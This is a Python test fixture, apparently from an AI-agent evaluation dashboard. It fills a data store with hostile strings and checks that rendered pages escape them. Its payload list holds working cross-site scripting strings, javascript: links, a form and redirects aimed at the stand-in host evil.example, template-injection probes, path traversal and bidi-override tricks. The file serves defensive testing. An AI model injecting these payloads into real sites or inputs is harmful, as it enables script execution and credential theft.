"""A store whose every string means harm: markup, quotes, script ends, addresses that run, marks that turn text round, escape
codes, and lines of a megabyte. What pages make of it is tested over HTTP and in a browser."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

from crucible.store.tables import (
    AttemptRow,
    ChangedFileRow,
    EventRow,
    FirstRequestRow,
    FlagRow,
    JudgementRow,
    JudgeRow,
    LabelRow,
    PlannedRow,
    RunRow,
    ScenarioRow,
    ScoreRow,
    TestReportRow,
    TotalRow,
    ValidationRow,
)
from crucible.store.writes import Store, clean
from crucible.transcript.events import Answered, Decided, Ended, Equipped, Event, Noted, Replied, Started

AWAY = "http://evil.example"
PIECES = (
    "<script>document.title='owned'</script>",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "' onmouseover='alert(3)' x='",
    f"<img src={AWAY}/a.png><iframe src={AWAY}></iframe>",
    "<svg onload=alert(4)><style>*{display:none}</style>",
    f"<base href={AWAY}><meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><input name=token><button>",
    "<a href=\"javascript:alert(5)\">javascript:alert(5)</a>",
    "</textarea></pre></td></tr></table></main></body></html>",
    "<!-- ]]> --> &lt;b&gt; &#60;i&#62; {{ 7 * 7 }} {% raw %} ${7*7} `id`",
    "\x1b[31mred\x1b[2J\x1b]8;;http://evil.example\x07link",
    "\u202egnp.exe\u202c \u2066\u2069\u200f\u200b\ufeff",
    "\x00\x07\x08\x7f\x85\u2028\u2029\r",
    "\ud800 \udfff",
    "Z\u0338\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 4,
    "\U0001f469\u200d\U0001f4bb \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
)  # fmt: skip
NASTY = " ".join(PIECES)
LONG = "<b>" + "W" * 1_000_000
UNBROKEN = "i" + "-" * 60 + "w" * 19
"""The longest name an arm may have: nothing in it to break a line at."""
ALLOWED_TAGS = frozenset({
    "a", "article", "aside", "b", "bdi", "blockquote", "body", "br", "button", "caption", "circle", "code", "col", "colgroup",
    "dd", "defs", "desc", "details", "dialog", "div", "dl", "dt", "em", "fieldset", "figcaption", "figure", "footer",
    "form", "g", "h1", "h2", "h3", "h4", "head", "header", "html", "i", "input", "kbd", "label", "legend", "li",
    "line", "link", "main", "meta", "nav", "ol", "optgroup", "option", "p", "path", "polygon", "polyline", "pre",
    "rect", "s", "script", "section", "select", "small", "span", "strong", "sub", "summary", "sup", "svg", "table",
    "tbody", "td", "text", "tfoot", "th", "thead", "time", "title", "tr", "tspan", "ul", "use",
})  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """What was stored: the run, two attempts of one block, and one that does not count."""

    run: int
    one: int
    other: int
    lost: int

    @property
    def paths(self) -> list[str]:
        """Every page over it, and pages asked for in the same spirit."""
        said = quote(NASTY.encode("utf-8", "replace"), safe="")
        return [
            *("/", "/?view=overall", "/scenarios", "/scenarios/hostile", "/runs", f"/runs/{self.run}"),
            *(
                f"/runs/{self.run}/comparison",
                f"/attempts/{self.one}",
                f"/attempts/{self.other}",
                f"/attempts/{self.lost}",
            ),
            *(f"/compare/{self.one}/{self.other}", f"/compare/{self.lost}/{self.one}"),
            *("/review", f"/review?run={self.run}", f"/review?run={self.run}&labeller={said}"),
            *(f"/runs?q={said}", f"/runs/{self.run}/comparison?show={said}&sort={said}", f"/?sort={said}&view={said}"),
            *(f"/attempts/{self.one}?turn={said}", f"/runs?page={said}&q=hostile"),
        ]

    @property
    def nowhere(self) -> list[str]:
        """Addresses of things that are not there, told back to whoever asked."""
        said = quote(NASTY.encode("utf-8", "replace").replace(b"/", b""), safe="")
        return [
            *(f"/?scenario={said}", f"/scenarios/{said}", f"/runs/{said}", f"/attempts/{said}", f"/compare/1/{said}"),
            *(f"/review?run={said}", f"/review?run={self.run}&dimension={said}", f"/{said}"),
        ]


def fill_hostile(store: Store) -> Hostile:
    """Fill an empty store."""
    for row in (_scenario(), _judge(), FirstRequestRow(sha256="hostile", data=json.dumps(_opening()))):
        store.ensure(row)
    store.add(_validation())
    arms = (UNBROKEN, "baseline")
    plan = [
        PlannedRow(run_id=0, position=2 * (block - 1) + n, scenario_hash="hostile", block=block, arm=arm,
                   model=clean(NASTY), baseline=arm == "baseline")
        for block in (1, 2, 3) for n, arm in enumerate(arms)
    ]  # fmt: skip
    run = store.create_run(_run(), plan)
    made = {
        (block, arm): _attempt(store, run, block, arm, counted=(block, arm) != (3, UNBROKEN))
        for block in (1, 2, 3)
        for arm in arms
    }
    return Hostile(run, made[1, UNBROKEN], made[1, "baseline"], made[3, UNBROKEN])


def _scenario() -> ScenarioRow:
    # A scenario file is refused with control characters in it; everything else may stand there.
    safe = re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029\ufeff\ud800-\udfff]", "", NASTY)
    said = {
        "name": "hostile", "description": safe, "fixture_path": "fixtures/x", "reference_fix": "fixtures/x/FIX.md",
        "task_prompt": safe, "test_command": f"pytest {safe}",
        "arms": [
            {"id": UNBROKEN, "model": safe, "description": safe, "system_prompt": safe, "extra_tools": ["asd"]},
            {"id": "baseline", "model": safe, "description": safe},
        ],
        "servers": {"asd": {"preset": "asd"}},
        "policies": [{"id": "P1", "rule": safe, "enforcement": "block",
                      "matchers": [{"tool": "bash", "arg_key": "command", "op": "contains", "value": safe}]}],
        "rubric": {"dimensions": [{"name": "correctness", "weight": 1.0, "criteria": safe}]},
    }  # fmt: skip
    text = f"---\n{json.dumps(said, ensure_ascii=False)}\n---\n{safe}"
    return ScenarioRow(
        hash="hostile", name="hostile", text=text, fixture_digest=NASTY, reference_text=_diff(), created_at="2026-11-30"
    )


def _judge() -> JudgeRow:
    return JudgeRow(id="hostile", model=NASTY, samples=1, prompt_hash=NASTY, rubric_hash=NASTY, created_at="2026-11-30")


def _validation() -> ValidationRow:
    return ValidationRow(
        scenario_hash="hostile", created_at="2026-11-30", sandbox=NASTY, python=NASTY, ok=False, problems=[NASTY, LONG],
        expected=[NASTY], failing_before=[NASTY], passing_before=[NASTY], seconds=1.0, quarantined=[NASTY], controlled=[NASTY],
    )  # fmt: skip


def _run() -> RunRow:
    return RunRow(
        created_at="2026-11-30T10:00:00.000+00:00", ended_at="2026-11-30T11:00:00.000+00:00", status="done",
        rehearsal=False, seed=1, blocks=3, sandbox="copy", judge=NASTY, judge_samples=1, parallel=1, version=NASTY,
        bench=NASTY, owner=NASTY, suite=NASTY, tools={NASTY: NASTY},
    )  # fmt: skip


def _attempt(store: Store, run: int, block: int, arm: str, *, counted: bool) -> int:
    row = AttemptRow(
        run_id=run, scenario_hash="hostile", scenario="hostile", arm=arm, block=block, retry=0,
        baseline=arm == "baseline", model=NASTY, rehearsal=False, session=NASTY, sandbox="copy",
        started_at="2026-11-30T10:00:00.000+00:00", agent=NASTY, servers={NASTY: NASTY}, similarity_reasons=[],
    )  # fmt: skip
    number = store.start_attempt(row)
    store.add_events(
        EventRow(attempt_id=number, seq=seq, kind=event.kind, turn=event.turn, at=event.at, data=_data(event))
        for seq, event in enumerate(_events(block, arm))
    )
    values = {
        "ending": "finished" if counted else NASTY, "cause": "agent" if counted else "provider", "detail": NASTY,
        "counted": counted, "passed": block == 1 if counted else None, "turns": 3, "tool_calls": 3, "blocked": 1, "warned": 1,
        "got_past": 1, "seconds": 3.0, "waited_seconds": 0.0, "input_uncached": 10, "output": 10, "tokens": 20,
        "cost_usd": 0.01, "diff": _diff(), "diff_size": 1_000_000, "similarity": 0.5, "similarity_reasons": [NASTY, NASTY],
    }  # fmt: skip
    store.finish_attempt(number, values, list(_belongings(number)))
    if counted:
        store.add_judging(number, "hostile", [_judgement(number)], [_score(number)], _total(number))
        if arm == "baseline":
            store.add(
                LabelRow(
                    attempt_id=number, dimension="correctness", value=block, labeller=NASTY, created_at="2026-11-30"
                )
            )
    return number


def _diff() -> str:
    head = f"diff --git a/{PIECES[0]} b/x\n--- a/{PIECES[0]}\n+++ b/x\n"
    return f"{head}@@ -1,2 +1,2 @@ {PIECES[1]}\n-{NASTY}\n+{NASTY}\n+{LONG}\n"


def _belongings(number: int) -> Iterator[Any]:
    for n, path in enumerate((NASTY, "../" * 30 + "x", "javascript:alert(6)", "w" * 500)):
        yield ChangedFileRow(
            attempt_id=number, path=path, status="modified", graded=bool(n), left_out=None if n else NASTY, size_after=3
        )
    yield TestReportRow(
        attempt_id=number, state="red", exit_code=1, seconds=1.0, passed=[NASTY], failed=[NASTY], fixed=[NASTY, PIECES[2]],
        broke=[NASTY], missing=[NASTY, PIECES[1]], detail=NASTY, output=f"{NASTY}\n{LONG}", control=[NASTY],
    )  # fmt: skip
    for seq, kind in enumerate(("history", "judge", PIECES[0])):
        yield FlagRow(attempt_id=number, seq=seq, kind=kind, turn=1, call_id=NASTY, detail=NASTY)


def _judgement(number: int) -> JudgementRow:
    return JudgementRow(
        attempt_id=number, judge_id="hostile", dimension="correctness", sample=1, asking=1, reply=f"{NASTY}\n{LONG}",
        error=NASTY, usage={NASTY: 1},
    )  # fmt: skip


def _score(number: int) -> ScoreRow:
    return ScoreRow(
        attempt_id=number, judge_id="hostile", dimension="correctness", weight=1.0, value=0.6, reason=NASTY, raw=0.8,
        samples=[4], asked=1, clamps=[{"cap": 0.6, "why": NASTY}], evidence=[NASTY, LONG], reasoning=f"{NASTY}\n{LONG}",
    )  # fmt: skip


def _total(number: int) -> TotalRow:
    return TotalRow(
        attempt_id=number,
        judge_id="hostile",
        seq=0,
        value=0.6,
        partial=0.6,
        weight_scored=1.0,
        missing=[],
        cuts=[NASTY, LONG],
    )


def _opening() -> dict[str, Any]:
    return {
        "messages": [{"role": "system", "content": _safe(NASTY)}, {"role": "user", "content": _safe(NASTY)}],
        "tools": [{"name": _safe(NASTY), "description": _safe(NASTY), "parameters": {"type": "object"}}],
        "model": _safe(NASTY),
    }


def _events(block: int, arm: str) -> Iterator[Event]:
    text = _safe(NASTY)
    yield Equipped(at=0, turn=0, servers={text: text}, offered={text: (text,)}, agent=text, seconds=0.1)
    yield Started(at=0, turn=0, system_prompt=text, task=text, tools=(text,), first_request_sha256="hostile")
    for turn in (1, 2, 3):
        said = f"{text}\n{LONG}" if turn == 2 else text
        yield Replied(
            at=turn, turn=turn, text=said, text_size=len(said), tool_calls=({"id": "c", "name": text, "raw_arguments": text},),
            input_uncached=5, input_cached=None, cache_write=None, output=5, reasoning=None, cost_usd=0.01,
            raw_usage={text: text}, seconds=0.1, waited_seconds=0.0, finish_reason=text,
        )  # fmt: skip
        yield Decided(at=turn, turn=turn, call_id="c", policy_id=text, action="warn", detail=text)
        tool = ("bash", "edit_file", text)[turn - 1]
        arguments = {
            "command": f"pytest {text} {block}{arm}",
            "path": text,
            text: text,
            "new": LONG if turn == 2 else text,
        }
        yield Answered(
            at=turn + 0.5, turn=turn, call_id="c", tool=tool, arguments=arguments, ok=turn != 1, text=said, text_size=len(said),
            seconds=0.1, exit_code=1 if turn == 1 else None, restored=(text,), limit=text if turn == 1 else None,
        )  # fmt: skip
    yield Noted(at=4, turn=3, what=text, detail=text)
    yield Ended(at=4, turn=3, ending=text, cause="agent", detail=text)


def _safe(text: str) -> str:
    """As the store keeps it: half a surrogate pair cannot be written."""
    return text.encode("utf-8", "backslashreplace").decode()


def _data(event: Event) -> str:
    return event.model_dump_json()


class Reader(HTMLParser):
    """What a browser would make of a page: its elements, and everything in them that could act."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.problems: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what is not allowed."""
        self.tags.append(tag)
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background", "ping", "http-equiv"):
                self.problems.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "xlink:href") and not (value or "").startswith(("/", "#", "?")):
                self.problems.append(f"<{tag} {name}={value!r:.60}>")
            if name in ("href", "src", "action") and (value or "").startswith("//"):
                self.problems.append(f"<{tag} {name}={value!r:.60}>")
        if tag == "script" and not dict(attrs).get("src"):
            self.problems.append("<script> in the page")
